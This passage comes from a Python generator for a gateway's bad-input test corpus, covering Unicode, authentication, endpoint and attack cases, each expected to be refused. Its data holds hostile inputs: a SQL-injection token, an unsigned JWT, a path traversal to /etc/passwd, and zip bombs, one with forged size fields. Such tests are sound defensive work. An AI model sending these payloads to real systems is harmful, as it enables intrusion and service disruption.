    c.accepted_323("control-cr-charref-in-referentienummer", "control-chars",
                   allowed + " (CR as a character reference survives parsing)", text="P\r1", raw="P&#13;1")
    c.accepted_301("control-del-in-301-commentaar", "control-chars", allowed,
                   (("</jw301:Omvang>", "</jw301:Omvang>\n        <jw301:Commentaar>a\x7fb</jw301:Commentaar>"),),
                   "a\x7fb")

    # ------------------------------------------------------------------ unicode edge cases
    uni = "any Unicode character XML allows is text: stored byte-exact and echoed unchanged"
    for slug, text in (("rtl-override", "P\u202e1000\u202c"), ("zero-width-space", "P\u200b1"),
                       ("zero-width-joiner", "P\u200d\u200c1"), ("combining-nfd", "Pe\u0301\u0301\u0301"),
                       ("nfc", "P\u00e9"), ("nfd", "Pe\u0301"), ("emoji-astral-20", "\U0001F600" * 20),
                       ("bom-char-inside", "P\ufeff1"), ("private-use", "P\ue0001"), ("noncharacter-fdd0", "P\ufdd01"),
                       ("arabic", "\u0645\u0631\u062d\u0628\u0627"), ("homoglyph-cyrillic", "\u0420202605"),
                       ("zalgo", "P" + "\u0336\u0334\u0338" * 6)):
        c.accepted_323(f"unicode-referentienummer-{slug}", "unicode", uni, text=text)
    c.accepted_323("unicode-identificatie-only-zero-width", "unicode", "an Identificatie of one zero-width space is "
                   "not blank by the XSD's pattern (\\s is space, tab, CR and LF only): accepted", field="Identificatie",
                   text="\u200b")
    c.accepted_323("unicode-identificatie-rtl", "unicode", uni, field="Identificatie", text="\u202eDI\u202c")
    c.accepted_323("unicode-productcode-nbsp", "unicode", uni + " (a no-break space is not XML white space)",
                   field="ProductCode", text="\u00a0")
    c.accepted_323("unicode-proef", "unicode", "the pre-check keeps nothing", text="P\u202e\u200b1", path=PROEF)
    for slug, ref in (("lone-high-surrogate", "&#xD800;"), ("lone-low-surrogate", "&#xDFFF;"),
                      ("ufffe", "&#xFFFE;"), ("uffff", "&#xFFFF;"), ("above-10ffff", "&#x110000;")):
        c.add(f"unicode-{slug}-charref", "unicode", "not an XML character: not well-formed",
              m323(c.next, raw_ref=f"P{ref}1"), status=400, error=NIET_GELDIG, rule="XML")
    c.add("unicode-ufffe-raw", "unicode", "U+FFFE as UTF-8 bytes: not an XML character",
          m323(c.next).replace(b"<ijw:ReferentieNummer>BIR", b"<ijw:ReferentieNummer>\xef\xbf\xbeBIR"),
          status=400, error=NIET_GELDIG, rule="XML")
    c.add("unicode-emoji-astral-21", "unicode", "21 characters (astral ones count once): over 20",
          m323(c.next, ref="\U0001F600" * 21), status=400, error=NIET_GELDIG, rule="XSD", path_contains="ReferentieNummer")
    c.add("unicode-overlong-identificatie", "unicode", "13 characters with combining marks: over 12",
          m323(c.next, ident="e\u0301" * 7), status=400, error=NIET_GELDIG, rule="XSD", path_contains="Identificatie")
    c.add("unicode-overlong-referentie-10k", "unicode", "10,000 characters in a 20-character field",
          m323(c.next, ref="\u00e9" * 10000), status=400, error=NIET_GELDIG, rule="XSD", path_contains="ReferentieNummer")
    c.accepted_301("unicode-voorletters-nfd", "unicode", "Voorletters allow the letters [a-zA-ZÀ-ỳ]; the combining "
                   "grave U+0300 lies inside À-ỳ (U+00C0–U+1EF3), so the NFD spelling passes the XSD's pattern as the "
                   "NFC one does (next case): accepted, stored as sent (not normalised)",
                   (("<ijw:Voorletters>A<", "<ijw:Voorletters>A\u0300<"),), "A\u0300")
    c.add("unicode-voorletters-space", "unicode", "a space is no letter (level 1)",
          m301(c.next, replace=(("<ijw:Voorletters>A<", "<ijw:Voorletters>A B<"),)), token="own_municipality",
          status=400, error=NIET_GELDIG, rule="XSD", path_contains="Voorletters")
    c.accepted_301("unicode-voorletters-nfc", "unicode", uni, (("<ijw:Voorletters>A<", "<ijw:Voorletters>\u00c0<"),),
                   "\u00c0")
    for slug, field_xml, text in (
            ("achternaam-rtl", ("<ijw:Achternaam>Voorbeeld<", "<ijw:Achternaam>\u202eDLEEBROOV\u202c<"),
             "\u202eDLEEBROOV\u202c"),
            ("voornamen-zero-width", ("<ijw:Voorletters>", "<ijw:Voornamen>An\u200bna</ijw:Voornamen>\n      "
                                      "<ijw:Voorletters>"), "An\u200bna"),
            ("voorvoegsel-nfd", ("Voorbeeld</ijw:Achternaam>", "Voorbeeld</ijw:Achternaam>\n        "
                                 "<ijw:Voorvoegsel>Te\u0301r</ijw:Voorvoegsel>"), "Te\u0301r"),
            ("plaatsnaam-emoji", ("<ijw:Plaatsnaam>Woerden<", "<ijw:Plaatsnaam>W\U0001F3E0rden<"), "W\U0001F3E0rden"),
            ("commentaar-long-mixed", ("</jw301:Omvang>", "</jw301:Omvang>\n        <jw301:Commentaar>"
                                       + "\u05e9\u05dc\u05d5\u05dd \u202e x\u0301 \U0001F600 " * 400
                                       + "</jw301:Commentaar>"),
             "\u05e9\u05dc\u05d5\u05dd \u202e x\u0301 \U0001F600 " * 400),
            ("taal-arabic", ("</jw301:Naam>", "</jw301:Naam>\n    <jw301:Communicatie>\n      <ijw:Vorm>1</ijw:Vorm>\n"
                             "      <ijw:Taal>\u0627\u0644\u0639\u0631\u0628\u064a\u0629</ijw:Taal>\n"
                             "    </jw301:Communicatie>"), "\u0627\u0644\u0639\u0631\u0628\u064a\u0629"),
            ("referentieaanbieder-homoglyph", ("</jw301:ToewijzingNummer>", "</jw301:ToewijzingNummer>\n        "
                                               "<jw301:ReferentieAanbieder>\u0420EF-\u0391\u0392\u0421"
                                               "</jw301:ReferentieAanbieder>"), "\u0420EF-\u0391\u0392\u0421"),
            ("organisatie-zalgo", ("</jw301:Adres>", "</jw301:Adres>\n        <jw301:Organisatie>Zorg"
                                   + "\u0336" * 20 + "</jw301:Organisatie>"), "Zorg" + "\u0336" * 20),
    ):
        c.accepted_301(f"unicode-301-{slug}", "unicode", uni, (field_xml,), text)

    # ------------------------------------------------------------------ authentication
    for slug, token, err in (("missing", "none", "missing Authorization header"),
                             ("comma-not-space", "raw:Bearer,demo-aanbieder-87654321", "Authorization must be 'Bearer <token>'"),
                             ("basic", "raw:Basic ZGVtbzpkZW1v", "Authorization must be 'Bearer <token>'"),
                             ("scheme-only", "raw:Bearer", "Authorization must be 'Bearer <token>'"),
                             ("token-scheme", "raw:Token demo-aanbieder-87654321", "Authorization must be"),
                             ("unknown-token", "raw:Bearer demo-aanbieder-99999999", "unknown or revoked token"),
                             ("token-with-suffix", "raw:Bearer demo-aanbieder-87654321x", "unknown or revoked token"),
                             ("jwt-alg-none", "raw:Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiI4NzY1NDMyMSJ9.",
                              "unknown or revoked token"),
                             ("sql-token", "raw:Bearer ' OR '1'='1", "unknown or revoked token"),
                             ("long-token", "raw:Bearer " + "A" * 8000, "unknown or revoked token"),
                             ("token-hash-instead", "raw:Bearer "
                              "5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8",
                              "unknown or revoked token")):
        c.add(f"auth-{slug}", "auth", "no valid Bearer token: 401 before the body is read", GOOD, token=token,
              status=401, error=err)
    c.add("auth-missing-proef", "auth", "the pre-check needs a token too", GOOD, path=PROEF, token="none",
          status=401, error="missing Authorization header")
    c.add("auth-missing-on-get", "auth", "reading needs a token", None, method="GET", path="/v1/berichten",
          token="none", content_type=None, status=401, error="missing Authorization header")
    c.add("auth-malformed-postvak", "auth", "reading needs a valid token", None, method="GET", path="/v1/postvak",
          token="raw:Bearer nope", content_type=None, status=401, error="unknown or revoked token")
    c.add("auth-provider-reads-municipality-deadlines", "auth", "another party's data: 403", None, method="GET",
          path="/v1/gemeenten/0632/termijnen", content_type=None, status=403, error="may not read the deadlines")
    c.add("auth-other-municipality-deadlines", "auth", "another municipality's data: 403", None, method="GET",
          path="/v1/gemeenten/0632/termijnen", token="other_municipality", content_type=None, status=403,
          error="may not read the deadlines")
    c.add("auth-deadlines-outside-region", "auth", "a municipality outside the region: 404", None, method="GET",
          path="/v1/gemeenten/0344/termijnen", token="own_municipality", content_type=None, status=404,
          error="is not part of region")

    # ------------------------------------------------------------------ unknown endpoints and methods
    for slug, method, path, status, err in (
            ("unknown-path", "GET", "/v1/nope", 404, "Not Found"),
            ("v2", "POST", "/v2/berichten", 404, "Not Found"),
            ("intern-proef-on-gateway", "POST", "/intern/v1/proef", 404, "Not Found"),
            ("path-traversal", "GET", "/v1/../../etc/passwd", 404, "Not Found"),
            ("delete-berichten", "DELETE", "/v1/berichten", 405, "Method Not Allowed"),
            ("put-berichten", "PUT", "/v1/berichten", 405, "Method Not Allowed"),
            ("patch-berichten", "PATCH", "/v1/berichten", 405, "Method Not Allowed"),
            ("get-proef", "GET", PROEF, 405, "Method Not Allowed"),
            ("post-status", "POST", "/v1/berichten/00000000-0000-0000-0000-000000000000", 405, "Method Not Allowed"),
            ("delete-message", "DELETE", "/v1/berichten/00000000-0000-0000-0000-000000000000", 405,
             "Method Not Allowed"),
            ("not-a-uuid", "GET", "/v1/berichten/not-a-uuid", 404, "no message with id"),
            ("unknown-uuid", "GET", "/v1/berichten/00000000-0000-0000-0000-000000000000", 404, "no message with id"),
            ("unknown-uuid-antwoord", "GET", "/v1/berichten/00000000-0000-0000-0000-000000000000/antwoord", 404,
             "no message with id"),
            ("unknown-uuid-inhoud", "GET", "/v1/berichten/ffffffff-ffff-ffff-ffff-ffffffffffff/inhoud", 404,
             "no message with id"),
            ("nul-in-path", "GET", "/v1/berichten/%00", 404, "no message with id"),
            ("limit-too-large", "GET", "/v1/berichten?limit=100000", 400, "invalid request"),
            ("limit-negative", "GET", "/v1/berichten?limit=-1", 400, "invalid request"),
            ("offset-text", "GET", "/v1/berichten?offset=abc", 400, "invalid request"),
            ("sinds-not-a-date", "GET", "/v1/berichten?sinds=gisteren", 400, "invalid request"),
            ("postvak-limit-zero", "GET", "/v1/postvak?limit=0", 400, "invalid request"),
            ("alleen-open-not-bool", "GET", "/v1/termijnen?alleen_open=misschien", 400, "invalid request")):
        c.add(f"endpoint-{slug}", "endpoint-method", "answered with a specific status and a JSON error", None,
              method=method, path=path, content_type=None, status=status, error=err)
    _attacks(c)
    return c


FA = "facturatie"
JSON = "application/json"
KOSTEN = "/v1/kostenverdeling"


def _kosten(bedrag_cent: int | str = 12_345) -> bytes:
    return (f'{{"referentie": "CORPUS-1", "omschrijving": "corpus", "domein": "jw", '
            f'"bedrag_cent": {bedrag_cent}}}').encode()


def _attacks(c: Corpus) -> None:
    """What an attacker tries (issue 18): guessed tokens, actions of another role, huge bodies before any credential,
    huge numbers, a batch over the total cap and the same request many times at once. Each a specific 4xx."""
    for slug, token, path, service in (
            ("municipality-not-in-region", "raw:Bearer demo-gemeente-9999", B, None),
            ("provider-agb-guessed", "raw:Bearer demo-aanbieder-00000001", B, None),
            ("ledger-of-a-guessed-municipality", "raw:Bearer demo-gemeente-0737", "/v1/gemeenten/0736/saldi", FA),
            ("controller-guessed", "raw:Bearer demo-regio-controleur", "/v1/gemeenten/0736/saldi", FA)):
        c.add(f"guessed-token-{slug}", "security", "a guessed token is unknown: 401, nothing read",
              None if service else m323(c.next), method="GET" if service else "POST", path=path, token=token,
              content_type=None if service else XML, status=401, error="unknown or revoked token",
              **({"service": service} if service else {}))
    for slug, token, method, path, body, err in (
            ("municipality-reads-another-ledger", "own_municipality", "GET", "/v1/gemeenten/0736/saldi", None,
             "may not read the ledger of municipality 0736"),
            ("provider-reads-a-ledger", "provider", "GET", "/v1/gemeenten/0632/saldi", None, "may not read"),
            ("provider-shares-costs", "provider", "POST", KOSTEN, _kosten(), "only the region's controller"),
            ("municipality-shares-costs", "own_municipality", "POST", KOSTEN, _kosten(), "only the region's controller"),
            ("municipality-pays-another", "own_municipality", "POST", "/v1/gemeenten/0736/betaalruns",
             b'{"peildatum": "2026-05-31"}', "may not read the ledger of municipality 0736"),
            ("provider-starts-a-payment-run", "provider", "POST", "/v1/gemeenten/0632/betaalruns",
             b'{"peildatum": "2026-05-31"}', "may not read")):
        c.add(f"wrong-role-{slug}", "security", "an action of another role: 403, nothing changes", body,
              ext="json", method=method, path=path, token=token, content_type=JSON if body else None, status=403,
              error=err, service=FA)
    for slug, service, path, build in (
            ("gateway-declared-200mb", None, B, {"kind": "declared_length", "content_length": 200 * 1024 * 1024}),
            ("gateway-streamed-30mb", None, B, {"kind": "oversize_stream", "bytes": 30 * 1024 * 1024}),
            ("facturatie-declared-200mb", FA, KOSTEN, {"kind": "declared_length", "content_length": 200 * 1024 * 1024}),
            ("facturatie-streamed-30mb", FA, KOSTEN, {"kind": "oversize_stream", "bytes": 30 * 1024 * 1024})):
        c.add(f"unauthenticated-{slug}", "security", "a body without credentials is refused before it is read",
              build=build, path=path, token="none", status=401, error="credentials come before a request body",
              **({"service": service} if service else {}))
    c.add("oversize-facturatie-declared", "oversize", "facturatie takes small JSON: a larger declared body, unread",
          build={"kind": "declared_length", "content_length": 65 * 1024}, path=KOSTEN, token="controller",
          content_type=JSON, status=413, error="larger than 64 KB", service=FA)
    c.add("oversize-facturatie-streamed", "oversize", "and counted as it arrives without a length",
          build={"kind": "oversize_stream", "bytes": 65 * 1024}, path=KOSTEN, token="controller", content_type=JSON,
          status=413, error="larger than 64 KB", service=FA)
    for slug, method, path, body, service in (
            ("offset", "GET", "/v1/berichten?offset=100000000000000000000", None, None),
            ("journal-after-id", "GET", "/v1/gemeenten/0632/journaal?na_id=100000000000000000000", None, FA),
            ("payment-run-id", "GET", "/v1/gemeenten/0632/betaalruns/100000000000000000000", None, FA),
            ("cost-in-cents", "POST", KOSTEN, _kosten(10**20), FA),
            ("cost-with-exponent", "POST", KOSTEN, _kosten("1e400"), FA)):
        c.add(f"huge-number-{slug}", "security", "a number past what the ledger holds: 400, never a 500", body,
              ext="json", method=method, path=path, token="controller" if service else "provider",
              content_type=JSON if body else None, status=400, error="invalid request",
              **({"service": service} if service else {}))
    c.add("zip-over-total-cap", "zip", "entries within 25 MB each but over 50 MB together: refused while unpacking",
          build={"kind": "zip_total", "entries": 3, "bytes": 17 * 1024 * 1024}, content_type=ZIP, status=413,
          error="unpacks to more than 50 MB")
    c.add("concurrent-guessed-tokens", "security", "the same guessed request eight times at once: eight 401s",
          m323(c.next), token="raw:Bearer demo-aanbieder-99999999", status=401, error="unknown or revoked token",
          concurrent=8)
    c.add("concurrent-wrong-role", "security", "the same wrong-role payment run eight times at once: eight 403s",
          b'{"peildatum": "2026-05-31"}', ext="json", path="/v1/gemeenten/0736/betaalruns", token="own_municipality",
          content_type=JSON, status=403, error="may not read the ledger", service=FA, concurrent=8)


def corpus_files() -> dict[str, bytes]:
    """Every file of tests/corpus/bad_input/ as this generator makes it (manifest.json included)."""
    c = build()
    manifest = {"about": "Bad-input corpus of the gateway; made by tests/corpus/make_bad_input.py, sent by "
                         "tests/system/test_bad_input_corpus.py. Do not edit by hand.",
                "tokens": TOKENS, "cases": c.cases}
    return {**c.files, "manifest.json": (json.dumps(manifest, indent=1, ensure_ascii=True) + "\n").encode()}


# --------------------------------------------------------------------------- bodies made at run time


def runtime_body(build: dict) -> bytes | Iterator[bytes]:
    """The body of a case too large to commit, made the same way every time."""
    kind = build["kind"]
    if kind == "oversize_stream":  # chunks without a Content-Length
        total = build["bytes"]

        def chunks() -> Iterator[bytes]:
            sent, block = 0, b"<a>" + b"x" * (1024 * 1024 - 3)
            while sent < total:
                part = block[: total - sent]
                sent += len(part)
                yield part
        return chunks()
    if kind == "padded_message":
        body = m323(999)
        pad = build["bytes"] - len(body) - len(b"<!--  -->")
        return body.replace(b"<jw323:Header>", b"<!-- " + b"x" * pad + b" --><jw323:Header>", 1)
    if kind == "stored_zip":
        return zip_of([("groot.xml", b"<!--" + b"y" * (build["bytes"] - 7) + b"-->")], zipfile.ZIP_STORED)
    if kind == "zip_bomb":  # deflates to a few KB, says and is over 25 MB
        return zip_of([("bom.xml", b"\x00" * build["bytes"])])
    if kind == "zip_bomb_lying":  # deflates 50 MB of zeros, its size fields claim 1 KB
        data = zip_of([("bom.xml", b"\x00" * build["bytes"])])
        out = bytearray(data)
        for sig, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
            i = out.find(sig)
            struct.pack_into("<I", out, i + at, 1024)
        return bytes(out)
    if kind == "zip_total":  # entries under the message limit that together pass the batch's total cap
        return zip_of([(f"deel-{i}.xml", b"<!--" + b"z" * (build["bytes"] - 7) + b"-->")
                       for i in range(build["entries"])])
    if kind == "many_faulty_clients":
        raw = m323(998)
        i, j = raw.index(b"<jw323:Client>"), raw.rindex(b"</jw323:Clienten>")
        return raw[:i] + b"<jw323:Client><jw323:Bsn>x</jw323:Bsn></jw323:Client>" * build["count"] + raw[j:]
    raise ValueError(f"unknown builder {kind}")


def main(argv: list[str] | None = None) -> int:
    out = Path(argv[0]) if argv else OUT
    out.mkdir(parents=True, exist_ok=True)
    files = corpus_files()
    for old in out.iterdir():
        if old.is_file() and old.name not in files:
            old.unlink()
    for name, data in files.items():
        (out / name).write_bytes(data)
    print(f"{len(files) - 1} body files and manifest.json ({len(json.loads(files['manifest.json'])['cases'])} cases) "
          f"in {out}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
